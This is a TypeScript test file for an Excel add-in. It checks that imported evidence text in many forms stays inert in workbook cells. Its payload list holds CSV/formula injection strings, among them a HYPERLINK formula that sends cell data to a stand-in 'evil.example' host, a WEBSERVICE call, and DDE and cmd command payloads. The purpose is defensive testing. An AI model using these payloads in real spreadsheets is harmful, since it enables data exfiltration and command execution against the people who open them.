import { DOMParser, type Element } from '@xmldom/xmldom';
import { unzipSync } from 'fflate';
import { beforeAll, describe, expect, test } from 'vitest';
import { importEvidence } from '../../excel-addin/sheets/import-evidence.ts';
import { putClipTables } from '../../excel-addin/sheets/put-clip-tables.ts';
import { createExcelWorkbook } from '../../excel-addin/workbook/excel/excel-workbook.ts';
import { createFileWorkbook } from '../../excel-addin/workbook/file/file-workbook.ts';
import type { Workbook } from '../../excel-addin/workbook/workbook.ts';
import { writePack } from '../../shared/exchange/write-pack.ts';
import { type Change, setFields } from '../../shared/ledger/change.ts';
import { createDevice, inspectionId, packOf } from '../unit/shared/sample-inspection.ts';
import { ExcelHost } from './excel-host.ts';
import { loadOfficeInNode } from './node-office.ts';

/** A word that stands in every text that is brought in, and in nothing of ours. */
const MARK = 'HOSTILE';

/** OWASP, "CSV Injection", and what Excel itself takes for the beginning of a formula, a link or an error. */
const PAYLOADS = [
  `=HYPERLINK("http://evil.example/?"&A1,"${MARK}")`,
  `=WEBSERVICE("http://evil.example/?${MARK}")`,
  `+cmd|'/c calc ${MARK}'!A0`,
  `-2+3+cmd|'/c calc ${MARK}'!A0`,
  `@SUM(1+1)*cmd|'/c calc ${MARK}'!A0`,
  `\t=1+1 ${MARK}`,
  `\r=1+1 ${MARK}`,
  `\n=1+1 ${MARK}`,
  ` =1+1 ${MARK}`,
  `'=1+1 ${MARK}`,
  `＝1+1 ${MARK}`,
  `"=1+1 ${MARK}`,
  `";=1+1;" ${MARK}`,
  `#REF! ${MARK}`,
  `=DDE("cmd";"/C calc";"${MARK}")`,
  `<b onclick="x()">${MARK}</b><script>${MARK}()</script>`,
  `&A&"${MARK}`,
  `]]><f>1+1</f> ${MARK}`,
  `_x003D_1+1 ${MARK}`,
] as const;

const id = (kind: string, index: number): string => `${kind}${index.toString(16).padStart(30, '0')}`;

/** Everything that a person or a page can put words into, with this text. */
const hostileChanges = (text: string, index: number): readonly Change[] => [
  setFields(
    'session',
    { id: id('50', index) },
    { kind: 'interview', title: text, roles: text, place: text, eventDate: '2026-11-03', status: 'open' },
  ),
  setFields(
    'case',
    { id: id('ca', index) },
    {
      ...{ reference: text, area: null, forceGrade: 'good', inspectorGrade: 'inadequate', reasons: text },
      ...{ status: 'open', criteria: [], question: text, reply: text },
      referredAt: '2026-11-03',
      replyDate: '2026-11-04',
    },
  ),
  setFields(
    'item',
    { id: id('e1', index) },
    {
      original: { type: 'point', text },
      shown: { text, title: text, source: text, grid: null },
      ...{ note: text, method: null, area: null, case: id('ca', index), session: id('50', index) },
      ...{ gatheredAt: '2026-11-03T10:00:00.000Z', followUp: text },
    },
  ),
  setFields(
    'link',
    { id: id('11', index) },
    { item: id('e1', index), criterion: 'ncpi-2024/initial-response/2', direction: 'strength' },
  ),
  setFields(
    'finding',
    { id: id('f1', index) },
    {
      ...{ kind: 'strength', sentence: text, criteria: ['ncpi-2024/initial-response/2'] },
      ...{ supporting: [id('e1', index)], contrary: [], withdrawn: null },
    },
  ),
];

let pack: Uint8Array;

beforeAll(async () => {
  const device = await createDevice('hostile');
  await device.record([
    setFields('actor', { id: device.actor }, { name: PAYLOADS[0], role: PAYLOADS[2] }),
    setFields(
      'inspection',
      { id: inspectionId },
      {
        ...{ framework: 'ncpi-2024', areasFramework: 'ncpi-2020', force: PAYLOADS[1], kind: 'inspection' },
        ...{ startDate: '2026-11-02', endDate: '2026-11-13' },
      },
    ),
  ]);
  await device.record(PAYLOADS.flatMap(hostileChanges));
  pack = await writePack(packOf([device]));
});

async function bringIn(workbook: Workbook): Promise<void> {
  const taken = await importEvidence(workbook, pack, {
    nowMs: Date.UTC(2026, 10, 20),
    fileName: `=${MARK}.plumb`,
    programVersion: '0.1.0',
  });
  if (!taken.ok) throw new Error(JSON.stringify(taken.error));
  const put = await putClipTables(workbook, [
    {
      item: id('e1', 0),
      grid: {
        caption: PAYLOADS[0],
        columnHeaders: [...PAYLOADS],
        rows: PAYLOADS.map((payload) => ({ key: payload, cells: PAYLOADS.map(() => payload) })),
      },
      title: PAYLOADS[0],
      source: PAYLOADS[1],
      gathered: '2026-11-03 10:00',
      by: PAYLOADS[2],
    },
  ]);
  if (!put.ok) throw new Error(JSON.stringify(put.error));
}

interface Found {
  readonly texts: readonly string[];
  /** Formulas in which the mark stands outside of a text in quotation marks. */
  readonly bent: readonly string[];
  /** Parts of a file by which Excel would reach out. */
  readonly reaching: readonly string[];
  /** Elements that no sheet has unless a text became markup. */
  readonly markup: readonly string[];
}

const elementsOf = (xml: string, name: string): readonly Element[] =>
  [...new DOMParser().parseFromString(xml, 'text/xml').getElementsByTagName('*')].filter(
    ({ localName }) => localName === name,
  );

/** Reads the file as a stranger would: nothing of the code that wrote it. */
function lookThrough(bytes: Uint8Array): Found {
  const parts = Object.entries(unzipSync(bytes)).map(
    ([path, part]) => [path, new TextDecoder().decode(part)] as const,
  );
  const ofSheets = parts.filter(([path]) => /^xl\/worksheets\/[^/]+\.xml$/.test(path)).map(([, xml]) => xml);
  const shared = parts.find(([path]) => path === 'xl/sharedStrings.xml')?.[1];
  const inCells = ofSheets.flatMap((xml) => elementsOf(xml, 't'));
  const texts = [...inCells, ...(shared === undefined ? [] : elementsOf(shared, 't'))];
  const formulas = ofSheets.flatMap((xml) =>
    ['f', 'formula', 'formula1', 'formula2'].flatMap((name) => elementsOf(xml, name)),
  );
  const outside = (formula: string): string => formula.replace(/"(?:[^"]|"")*"/g, '""');
  return {
    texts: texts.map(({ textContent }) => textContent ?? '').filter((text) => text.includes(MARK)),
    bent: formulas.map(({ textContent }) => textContent ?? '').filter((text) => outside(text).includes(MARK)),
    reaching: parts.flatMap(([path, xml]) => [
      ...(/externalLink|connections|ddeLink|queryTable|vbaProject/.test(path) ? [path] : []),
      ...(/TargetMode="External"/.test(xml) || elementsOf(xml, 'hyperlink').length > 0 ? [path] : []),
    ]),
    markup: ofSheets.flatMap((xml) =>
      ['script', 'b'].flatMap((name) => elementsOf(xml, name).map(({ nodeName }) => nodeName)),
    ),
  };
}

const nothingBent = { bent: [], reaching: [], markup: [] };
/** Seven columns of evidence, cases, sessions and findings, and a table of all by all. */
const leastTexts = PAYLOADS.length * (7 + PAYLOADS.length);

describe('text that looks like a formula, a command or markup', () => {
  test('stays text in every cell of a workbook file', async () => {
    const workbook = createFileWorkbook();
    await bringIn(workbook);
    const { texts, ...rest } = lookThrough(workbook.toBytes());
    expect(rest).toEqual(nothingBent);
    expect(texts.length).toBeGreaterThan(leastTexts);
  });

  test('stays text in every cell of a workbook that is open in Excel', async () => {
    const host = ExcelHost.open(null, { calculation: 'none' });
    const { Excel: excel } = loadOfficeInNode(host);
    await bringIn(createExcelWorkbook(excel));
    const { texts, ...rest } = lookThrough(await host.save());
    expect(rest).toEqual(nothingBent);
    expect(texts.length).toBeGreaterThan(leastTexts);
    expect(host.unsupported).toEqual([]);
  });

  test('would be seen if it were a formula (the control)', async () => {
    const host = ExcelHost.open(null, { calculation: 'none' });
    const { Excel: excel } = loadOfficeInNode(host);
    await excel.run(async (context) => {
      context.workbook.worksheets.getItem('Sheet1').getRange('A1').values = [[`=${MARK}()`]];
      await context.sync();
    });
    expect(lookThrough(await host.save()).bent).toEqual([`${MARK}()`]);
  });
});
